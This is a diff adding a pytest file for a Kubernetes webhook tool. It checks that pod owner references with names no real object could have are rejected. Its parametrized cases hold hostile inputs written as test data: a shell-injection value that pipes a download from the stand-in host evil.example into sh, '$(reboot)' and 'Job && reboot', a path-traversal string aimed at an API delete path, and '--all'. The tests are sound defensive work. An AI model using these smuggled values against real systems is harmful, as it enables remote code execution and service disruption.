@@ -1,0 +1,33 @@
+"""Who made a pod: words of whoever created it, which become paths of the API and commands for administrators."""
+
+import pytest
+
+from webhook.cli.live import Owner, controller
+
+
+def made_by(**changes: object) -> dict[str, object]:
+    owner = {"apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-1.a", "uid": "1", "controller": True, **changes}
+    return {"ownerReferences": [owner]}
+
+
+def test_the_controller_among_a_pods_owners_made_it() -> None:
+    assert controller(made_by()) == Owner("apps/v1", "ReplicaSet", "web-1.a")
+    assert controller(made_by(controller=False)) is None
+    assert controller({}) is None
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"name": "x; curl evil.example | sh"},
+        {"name": "$(reboot)"},
+        {"name": "../../../../api/v1/namespaces/shop/services/web/proxy/delete"},
+        {"name": ".."},
+        {"name": "web?watch=true"},
+        {"name": "--all"},
+        {"kind": "Job && reboot"},
+    ],
+)
+def test_r55_an_owner_named_as_no_object_can_be_is_none(changes: dict[str, object]) -> None:
+    """The API server takes any words for it."""
+    assert controller(made_by(**changes)) is None
